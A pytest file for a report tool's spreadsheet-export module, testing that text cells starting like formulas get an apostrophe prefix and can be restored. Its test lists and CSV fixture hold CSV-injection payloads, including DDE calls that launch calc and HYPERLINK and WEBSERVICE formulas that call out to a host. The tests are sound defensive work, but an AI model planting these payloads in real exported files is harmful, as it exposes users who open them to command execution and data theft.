"""Tables for spreadsheets: no text becomes a formula, numbers stay numbers, and all of it can be undone."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis import analyse, daily_panel, read_incidents
from reports import build_report
from reports.cli import main
from reports.spreadsheet import for_spreadsheets, restored, restored_text, safe_text

ATTACKS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "＝1+1", "-", "+a",
    '=HYPERLINK("http://x/?"&A1)',
]  # fmt: skip
HARMLESS = [
    "",
    "Орёл",
    "5",
    "-5",
    "+3.5%",
    "-1,234.5",
    "1e-5",
    "-.5",
    "a=b",
    "'quoted'",
    "'tis",
    "RU-BEL|RU-KRS",
    "—",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_begins_with_an_apostrophe_and_comes_back(text):
    assert safe_text(text) == f"'{text}"
    assert restored_text(safe_text(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_are_left_alone(text):
    assert safe_text(text) == restored_text(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n a1＝"), max_size=8) | st.text(max_size=12))
def test_any_text_is_safe_and_comes_back(text):
    safe = safe_text(text)
    assert restored_text(safe) == text
    assert safe[:1] not in set("=@\t\r\n")
    assert safe[:1] not in set("+-") or safe[1:2].isdigit() or safe[1:2] in set(".,")


def test_only_texts_of_a_frame_are_touched():
    frame = pd.DataFrame(
        {
            "=name": ["=1", None, "a"], "low": [-1.5, np.nan, 2.0],
            "n": pd.array([-1, None, 3], dtype="Int64"),
            "day": pd.to_datetime(["2025-07-14"] * 3), "kind": pd.Categorical(["@x", "b", "b"]),
        }
    )  # fmt: skip
    before = frame.copy(deep=True)
    safe = for_spreadsheets(frame)
    assert safe["'=name"].tolist()[0] == "'=1"
    assert safe["kind"].tolist() == ["'@x", "b", "b"]
    for name in ("low", "n", "day"):
        pd.testing.assert_series_equal(safe[name], frame[name])
    pd.testing.assert_frame_equal(frame, before)
    back = restored(safe)
    assert list(back.columns) == list(frame.columns)
    assert back["kind"].tolist() == ["@x", "b", "b"]


def _table():
    rows = [f"2025-{6 + day // 31:02d}-{day % 30 + 1:02d},A{day % 3},{day % 4}," for day in range(60)]
    bad = '2025-07-40,=cmd|A,1,"=WEBSERVICE(""http://x"")"'
    attacks = '2025-07-10,=1+1,2,"+cmd|x"'
    return ("\n".join(["date,region,count,source", *rows, bad, attacks]) + "\n").encode()


def test_no_table_of_an_edition_holds_a_formula(tmp_path, capsys):
    path = tmp_path / "incidents.csv"
    path.write_bytes(_table())
    panel = daily_panel(read_incidents(path, regions=None), measure="count")
    tables = build_report(analyse(panel, week="2025-W28")).tables()
    cells = [
        cell for data in tables.values() for row in csv.reader(io.StringIO(data.decode())) for cell in row
    ]
    assert "'=1+1" in cells
    assert any("'=cmd|A" in cell or "2025-07-40" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r") or cell[:1] == "+"] == []

    common = ["--regions", "none", "--measure", "count"]
    weekly = ["--week", "2025-W28", "--formats", "json", "--out", str(tmp_path / "weekly")]
    assert main(["report", str(path), *common, *weekly]) == 0
    capsys.readouterr()
    assert main(["rows", str(tmp_path / "weekly" / "2025-W28"), "total/week/count", "--csv"]) == 0
    printed = capsys.readouterr().out
    assert ",'=1+1" in printed
    assert ",=1+1" not in printed
    out = tmp_path / "panel.csv"
    assert main(["series", str(path), *common, "--out", str(out)]) == 0
    assert "'=1+1" in out.read_text(encoding="utf-8")
